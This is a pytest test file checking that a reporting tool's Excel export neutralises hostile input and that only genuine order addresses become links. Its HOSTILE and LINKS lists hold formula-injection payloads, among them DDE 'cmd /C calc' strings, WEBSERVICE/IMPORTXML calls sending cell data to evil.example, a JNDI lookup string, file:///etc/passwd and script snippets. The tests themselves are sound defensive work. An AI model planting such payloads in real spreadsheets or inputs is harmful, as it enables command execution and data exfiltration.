"""What comes from data stays text: in cells, links and charts, and when a sheet is saved as CSV and opened again."""

import datetime as dt
import zipfile
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest

from orderkit.analyses.result import Result
from orderkit.analyses.todo import COLUMNS
from orderkit.analyses.todo_shown import ToDo
from orderkit.reports.workbook import cells, columns, write_workbook
from orderkit.store.unpack import containers
from orderkit.store.unpack.cells import one_line

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","open")', '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+49 170 1234567", "-5", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "{=1+1}",
    "'=1+1", '"=1+1', '=""&A1', "%0A=1+1", 'DDE("cmd","/C calc")', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "]]><x/>", "</t></si><f>1+1</f>", "&amp;lt;b&gt; & < >", "_x003D_1+1", "_x0000_", "a\x00b\x1b[31mred", "\x1b]0;title\x07",
    "\ufffe\uffff", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n {0} {title}", "javascript:alert(1)", "http://evil.example/",
    "mailto:a@evil.example", "file:///etc/passwd", "\\\\evil.example\\share", "internal:Sheet1!A1", "00123", "1e5", "TRUE",
    "https://sellercentral.amazon.com/=1", "x" * 40_000, "\U0001f600" * 20_000, "[Book1]Sheet1!A1", "a/b\\c:d*e?f[g]h",
    "2026-11-15",
]  # fmt: skip
ORDER = "https://sellercentral.amazon.com/orders-v3/order/"
LINKS = [
    "https://sellercentral.amazon.com.evil.example/orders-v3/order/1", "https://evil.example/", "http://sellercentral.amazon.com/a",
    "https://user@sellercentral.amazon.com/a", "https://sellercentral.amazon.com:8443/a", "https://sellercentral.nowhere.example/",
    "javascript:alert(1)", f"{ORDER}1?to=https://evil.example", f"{ORDER}1 2", f"{ORDER}\u202e", "internal:A1",
    "external:c:\\a.xlsx", ORDER + "1" * 3_000,
]  # fmt: skip
DAY = dt.date(2026, 11, 15)
TRIGGERS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def todo(texts, links):
    rows = [
        {"item": f"t{at:08x}", "order_id": text, "what": text, "advice": text, "money": None, "currency": "USD", "link": link}
        for at, (text, link) in enumerate(zip(texts, links, strict=True))
    ]
    frame = pd.DataFrame(rows, columns=COLUMNS).astype({"money": float, "days_left": "Int64"})
    frame["deadline"] = pd.to_datetime(frame["deadline"])
    return ToDo(kind="todo", title=texts[0], headline=texts[1], frame=frame, how=texts, tables={"day": DAY})


def returns(texts):
    numbers = {"returns": range(1, len(texts) + 1), "share": 0.1, "cost": 1.5, "cost_share": 0.1, "cost_share_low": 0.0}
    frame = pd.DataFrame({"reason": texts, "currency": "USD", **numbers, "cost_share_high": 0.2})
    skus = pd.DataFrame({"sku": texts, "currency": "USD", "category": texts, "shipped": 3.0, "reason": texts, "cost": np.nan})
    view = {"reason": "reason", "currency": "currency", "cost": "cost"}
    weeks = pd.DataFrame(columns=["marketplace", "week", "shipped"])
    return Result("returns", texts[2], texts[3], frame, texts, tables={"skus": skus, "weeks": weeks}, money=("cost",), view=view)


def files(texts):
    counts = dict.fromkeys(("lines", "loaded", "duplicates", "superseded", "quarantined"), 0)
    days = {"covers_from": DAY, "covers_to": None}
    return {
        "files": pd.DataFrame({"file": texts, "export": texts, "account": texts, **days, **counts}),
        "sums": pd.DataFrame({"file": texts, "currency": "USD", "amount": Decimal("1.10")}),
        "set_aside": pd.DataFrame({"file": texts, "line": 1, "column": texts, "why": texts}),
    }


@pytest.fixture(scope="module")
def path(tmp_path_factory):
    results = {"todo": todo(HOSTILE, (LINKS * 5)[: len(HOSTILE)]), "returns": returns(HOSTILE)}
    target = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    return write_workbook(target, results=results, up_to=dict.fromkeys(results, HOSTILE[0]), sources=files(HOSTILE), as_of=DAY)


@pytest.fixture(scope="module")
def book(path):
    return openpyxl.load_workbook(path)


@pytest.fixture(scope="module")
def told(path):
    """Every text of the workbook as our own reader has it."""
    return {cell for member in containers.members(path, path.parent) for row in member.rows() for cell in row}


def test_there_are_forty_of_them():
    assert len(set(HOSTILE)) >= 40


def test_no_cell_becomes_a_formula_and_no_text_a_link(book, path):
    assert [(page.title, cell.coordinate) for page in book for row in page for cell in row if cell.data_type == "f"] == []
    assert [cell.hyperlink.target for page in book for row in page for cell in row if cell.hyperlink] == []
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        outside = [
            name for name in archive.namelist() if "external" in name.lower() or b'TargetMode="External"' in archive.read(name)
        ]
    assert len(sheets) == 6
    assert not any("<f>" in text for text in sheets)
    assert outside == []


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_each_text_is_there_as_it_was(told, number):
    assert one_line(cells.guarded(HOSTILE[number])) in told


def test_saved_as_csv_nothing_begins_a_formula(book):
    values = [value for page in book for row in page.values for value in row if isinstance(value, str)]
    assert len(values) > 500
    assert [value for value in values if value.lstrip().startswith(TRIGGERS)] == []


def test_a_guarded_text_is_marked_as_text_for_who_edits_it(book):
    page = book["To do"]
    marked = [cell for cell in page["B"][1:] if cell.value.startswith("'")]
    assert len(marked) > 15
    assert all(cell.quotePrefix for cell in marked)


def test_what_no_file_can_hold_is_replaced():
    assert cells.plain("a\ud800b\x00\x1b") == "a\ufffdb\ufffd\ufffd"


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(book):
    longest = [value for row in book["Products"].values for value in row if isinstance(value, str) and value.startswith("xxxx")]
    assert longest
    assert all(len(text) == 32_767 and text.endswith("… (cut: 40,000 characters)") for text in longest)
    faces = cells.plain("\U0001f600" * 20_000)
    assert len(faces.encode("utf-16-le")) // 2 <= 32_767
    assert faces.endswith("… (cut: 20,000 characters)")


@pytest.mark.parametrize("link", LINKS)
def test_only_addresses_of_our_own_making_are_links(link):
    assert cells.safe_link(link) is None


def test_the_address_of_an_order_is_one():
    link = "https://sellercentral.amazon.co.uk/orders-v3/order/026-1234567-1234567"
    assert cells.safe_link(link) == link


def test_numbers_keep_their_cents_and_what_is_no_number_is_no_zero(tmp_path):
    frame = pd.DataFrame({
        "amount": [0.1, None, float("inf"), 1234.56], "currency": ["USD", "USD", "USD", "JPY"],
        "count": pd.array([1, None, 3, 4], "Int64"), "yes": [True, False, True, None],
        "exact": [Decimal("0.10"), None, Decimal("2.30"), Decimal("3")],
    })  # fmt: skip
    titles = {"amount": "amount", "currency": "currency", "count": "count", "yes": "yes", "exact": "exact"}
    result = Result("numbers", "Numbers", "Numbers", frame, [], money=("amount", "exact"), view=titles)
    results = {"todo": todo(HOSTILE, [None] * len(HOSTILE)), "health": result}
    sources = {name: frame.head(0) for name, frame in files(HOSTILE).items()}
    path = write_workbook(tmp_path / "n.xlsx", results=results, up_to={}, sources=sources, as_of=DAY)
    page = openpyxl.load_workbook(path)["Account health"]
    rows = [[cell.value for cell in row] for row in page["A5:E8"]]
    assert rows[0] == [0.1, "USD", 1, "yes", 0.1]
    assert rows[1] == ["not known", "USD", "not known", "no", "not known"]
    assert rows[2] == ["inf", "USD", 3, "yes", 2.3]
    assert rows[3] == [1234.56, "JPY", 4, "not known", 3]
    assert [page["A5"].number_format, page["A8"].number_format] == ["#,##0.00", "#,##0"]


def test_moments_lose_their_zone_and_the_header_names_it():
    berlin = pd.Timestamp("2026-11-15 00:30", tz="Europe/Berlin")
    frame = pd.DataFrame(
        {"at": [berlin, pd.NaT], "day": [dt.date(2026, 11, 15), None], "local": [pd.Timestamp("2026-11-15 09:30")] * 2}
    )
    made = columns.columns_of(frame, {"at": "at", "day": "day", "local": "local"})
    assert [(column.header, column.kind) for column in made] == [("at (UTC)", "moment"), ("day", "day"), ("local", "moment")]
    assert cells.zoneless(berlin).isoformat() == "2026-11-14T23:30:00"
    assert cells.zoneless(dt.date(1899, 12, 31)) is None


def test_two_headers_alike_are_told_apart():
    frame = pd.DataFrame({"a": [1], "b": [2.5], "c": ["x" * 50]})
    made = columns.columns_of(frame, {"a": "rate", "b": "Rate", "c": "other", "d": "not there"})
    assert [(column.header, column.kind) for column in made] == [("rate", "count"), ("Rate (2)", "number"), ("other", "long")]
